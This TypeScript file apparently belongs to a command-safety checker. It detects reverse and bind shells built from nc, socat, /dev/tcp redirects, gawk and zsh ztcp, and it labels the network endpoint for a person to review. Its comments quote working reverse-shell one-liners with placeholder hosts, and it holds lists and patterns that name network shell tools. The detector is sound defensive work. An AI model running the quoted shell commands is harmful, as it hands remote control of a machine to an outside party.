// Reverse and bind shells written in shell, named with their network end so a person can act on
// the reason ("opens a reverse shell to 10.0.0.1:4242", "opens a bind shell on port 4444"):
// - nc / ncat / netcat / nc.traditional with `-e` / `-c` / `--exec` / `--sh-exec` running a shell
//   (`nc -e /bin/sh h 4444`, `nc -lvp 4444 -e /bin/sh`);
// - socat joining an `exec:` / `system:` address to a TCP, UDP or OpenSSL one (`socat tcp:h:p
//   exec:sh`, `socat TCP-LISTEN:4444,fork EXEC:/bin/sh`);
// - a shell beside a `/dev/tcp/h/p` or `/dev/udp/h/p` redirect (`bash -i >& /dev/tcp/h/p 0>&1`,
//   `exec 5<>/dev/tcp/h/p; … $line …`);
// - gawk's `/inet/tcp/LPORT/HOST/RPORT` special files in a program that runs what it reads;
// - zsh's `ztcp HOST PORT` / `ztcp -l PORT`.
// A shell wired to nc / telnet / openssl by a pipeline is tunnels.ts's finding; it names its end
// with {@link networkEnd}. Inline interpreter code is code-shells.ts's.

import type { CommandModel, SimpleCommand } from '../command-model.js';
import { SHELLS } from '../knowledge/programs/programs.js';

/** Where a network program connects to, or the port it listens on. */
export interface NetworkEnd {
  listen: boolean;
  host?: string;
  port?: string;
}

/** nc and its relatives. */
const NETCATS: ReadonlySet<string> = new Set([
  'nc',
  'ncat',
  'netcat',
  'nc.traditional',
  'nc.openbsd',
  'cryptcat',
  'pwncat',
]);
/** nc / ncat short options that take a value (`-p 4444`, `-e /bin/sh`, `-w 3`, `-q0`). */
const NC_VALUE = new Set([...'ecpswiqxoPgGmTIOX']);
/** nc / ncat long options that take a value. */
const NC_LONG_VALUE =
  /^--(?:exec|sh-exec|lua-exec|source-port|source|wait|idle-timeout|proxy|proxy-type|proxy-auth|output|hex-dump|max-conns|allow|allowfile|deny|denyfile|ssl-cert|ssl-key|ssl-trustfile|ssl-ciphers|ssl-alpn|send-only|recv-only)$/;

const PORT = /^\d{1,5}$/;

/** `h:p` as shown in a reason ('a remote host' when unknown). */
export function showEnd(end: NetworkEnd): string {
  if (end.listen)
    return end.port === undefined
      ? 'opens a bind shell (listens on the network)'
      : `opens a bind shell on port ${end.port}`;
  const host = end.host ?? 'a remote host';
  return `opens a reverse shell to ${end.port === undefined ? host : `${host}:${end.port}`}`;
}

/** The program nc's `-e` / `-c` / `--exec` / `--sh-exec` runs, and where nc connects or listens. */
function netcat(seg: SimpleCommand): { runs: string | null; end: NetworkEnd } {
  const a = seg.argv;
  let runs: string | null = null;
  let listen = false;
  let port: string | undefined;
  const positionals: string[] = [];
  for (let i = 1; i < a.length; i++) {
    const w = a[i] as string;
    if (w.startsWith('--')) {
      const [name, joined] = w.includes('=')
        ? [w.slice(0, w.indexOf('=')), w.slice(w.indexOf('=') + 1)]
        : [w, undefined];
      const value = joined ?? (NC_LONG_VALUE.test(name) ? a[++i] : undefined);
      if (/^--(?:exec|sh-exec|lua-exec)$/.test(name)) runs = value ?? '';
      else if (name === '--listen') listen = true;
      else if (name === '--source-port' && value !== undefined) port = value;
      continue;
    }
    if (w.startsWith('-') && w.length > 1) {
      for (let k = 1; k < w.length; k++) {
        const c = w[k] as string;
        if (c === 'l') listen = true;
        if (!NC_VALUE.has(c)) continue;
        const value = k + 1 < w.length ? w.slice(k + 1) : a[++i];
        if (c === 'e' || c === 'c') runs = value ?? '';
        else if (c === 'p' && value !== undefined) port = value;
        break;
      }
      continue;
    }
    positionals.push(w);
  }
  const numbers = positionals.filter((p) => PORT.test(p));
  const host = positionals.find((p) => !PORT.test(p));
  const end: NetworkEnd = { listen };
  if (listen) {
    const p = port ?? numbers[0];
    if (p !== undefined) end.port = p;
  } else {
    if (host !== undefined) end.host = host;
    const p = numbers[0] ?? port;
    if (p !== undefined) end.port = p;
  }
  return { runs, end };
}

/** Whether a command word runs a shell or an interpreter (`/bin/sh`, `bash -i`, `sh -i`, `cmd.exe`). */
function runsShell(command: string): boolean {
  const first =
    command
      .trim()
      .replace(/^['"]|['"]$/g, '')
      .split(/[\s,]+/)[0] ?? '';
  const base = first.slice(first.lastIndexOf('/') + 1);
  return SHELLS.has(base) || /^(?:python[0-9.]*|perl|ruby|php|lua[0-9.]*|node|tclsh|busybox|cmd(?:\.exe)?)$/.test(base);
}

/** socat's network address (`tcp:h:p`, `TCP4-LISTEN:p,fork`, `openssl:h:p`), or null. */
function socatEnd(address: string): NetworkEnd | null {
  const listen = /^(?:tcp|udp|sctp|openssl|ssl|dccp)[46]?-listen:(\d+)/i.exec(address);
  if (listen !== null) return { listen: true, port: listen[1] as string };
  const connect = /^(?:tcp|udp|sctp|openssl|ssl|dccp)[46]?(?:-connect)?:(\[[^\]]+\]|[^:,]+):(\d+)/i.exec(address);
  if (connect !== null) return { listen: false, host: connect[1] as string, port: connect[2] as string };
  return null;
}

/** Where nc, ncat, socat, telnet or `openssl s_client` connects or listens; null for other programs. */
export function networkEnd(seg: SimpleCommand): NetworkEnd | null {
  const p = seg.program;
  if (NETCATS.has(p)) return netcat(seg).end;
  if (p === 'socat') {
    for (const w of seg.argv.slice(1)) {
      const end = socatEnd(w);
      if (end !== null) return end;
    }
    return null;
  }
  if (p === 'telnet') {
    const [host, port] = seg.argv.slice(1).filter((w) => !w.startsWith('-'));
    return host === undefined ? null : { listen: false, host, ...(port === undefined ? {} : { port }) };
  }
  if (p === 'openssl' && /^s_(?:client|server)$/.test(seg.argv[1] ?? '')) {
    const a = seg.argv;
    if (a[1] === 's_server') {
      const k = a.indexOf('-accept');
      return { listen: true, ...(k < 0 || a[k + 1] === undefined ? {} : { port: a[k + 1] as string }) };
    }
    const k = a.indexOf('-connect');
    const m = k < 0 ? null : /^(.+):(\d+)$/.exec(a[k + 1] ?? '');
    return m === null ? { listen: false } : { listen: false, host: m[1] as string, port: m[2] as string };
  }
  return null;
}

const DEV_SOCKET = /^\/dev\/(tcp|udp)\/([^/]+)\/([^/]+)$/;
/** gawk's network special file: `/inet/tcp/LPORT/HOST/RPORT` (also `/inet4/`, `/inet6/`, `/udp/`). */
const INET_FILE = /\/inet[46]?\/(?:tcp|udp)\/(\d+|"\s*\w+\s*")?\/?([^/"\s]*)\/?(\d*)/;
/** An awk program that runs what it reads (`c |& getline`, `system(`, `| getline`) over a coprocess. */
const AWK_RUNS = /\|&|\bsystem\s*\(/;
const AWKS: ReadonlySet<string> = new Set(['awk', 'gawk', 'nawk', 'mawk']);

/** The dangerous findings of reverse and bind shells written in shell (see the file comment). */
export function remoteShellRules(model: CommandModel, add: (reason: string) => void): void {
  const segs = model.segments;
  // a `/dev/tcp/h/p` redirect anywhere, and a shell (or a run-time program: `$line`) anywhere
  const socket = segs.flatMap((s) => s.redirects.map((r) => DEV_SOCKET.exec(r.target))).find((m) => m != null);
  const shell = segs.findIndex((s) => !s.wrapper && (SHELLS.has(s.program) || s.unknown_program));
  if (socket != null && shell >= 0) {
    const s = segs[shell] as SimpleCommand;
    const end = showEnd({ listen: false, host: socket[2] as string, port: socket[3] as string });
    add(
      `segment ${shell + 1}: ${s.unknown_program ? 'a run-time command' : s.program} ${end} (/dev/${socket[1]} redirect)`,
    );
  }
  segs.forEach((seg, i) => {
    if (seg.wrapper) return;
    const label = `segment ${i + 1}: ${seg.program}`;
    const p = seg.program;
    if (NETCATS.has(p)) {
      const { runs, end } = netcat(seg);
      if (runs !== null && runsShell(runs)) add(`${label} ${showEnd(end)} (-e ${runs.trim() || '…'})`);
    } else if (p === 'socat') {
      const exec = seg.argv.find((w) => /^(?:exec|system):/i.test(w));
      const end = networkEnd(seg);
      if (exec !== undefined && end !== null && runsShell(exec.slice(exec.indexOf(':') + 1)))
        add(`${label} ${showEnd(end)} (${exec.length > 40 ? `${exec.slice(0, 37)}…` : exec})`);
    } else if (AWKS.has(p)) {
      for (const w of seg.argv.slice(1)) {
        const m = INET_FILE.exec(w);
        if (m === null || !AWK_RUNS.test(w)) continue;
        const local = m[1] ?? '0';
        const end: NetworkEnd =
          local !== '0' && PORT.test(local)
            ? { listen: true, port: local }
            : { listen: false, ...(m[2] ? { host: m[2] } : {}), ...(m[3] ? { port: m[3] } : {}) };
        add(`${label} ${showEnd(end)} (a /inet/ coprocess running what it reads)`);
        break;
      }
    } else if (p === 'ztcp') {
      const ops = seg.argv.slice(1);
      const l = ops.indexOf('-l');
      const end: NetworkEnd =
        l >= 0
          ? { listen: true, ...(ops[l + 1] === undefined ? {} : { port: ops[l + 1] as string }) }
          : {
              listen: false,
              ...(ops[0] === undefined ? {} : { host: ops[0] }),
              ...(ops[1] === undefined ? {} : { port: ops[1] }),
            };
      add(`${label} ${showEnd(end)} (zsh/net/tcp)`);
    }
  });
}
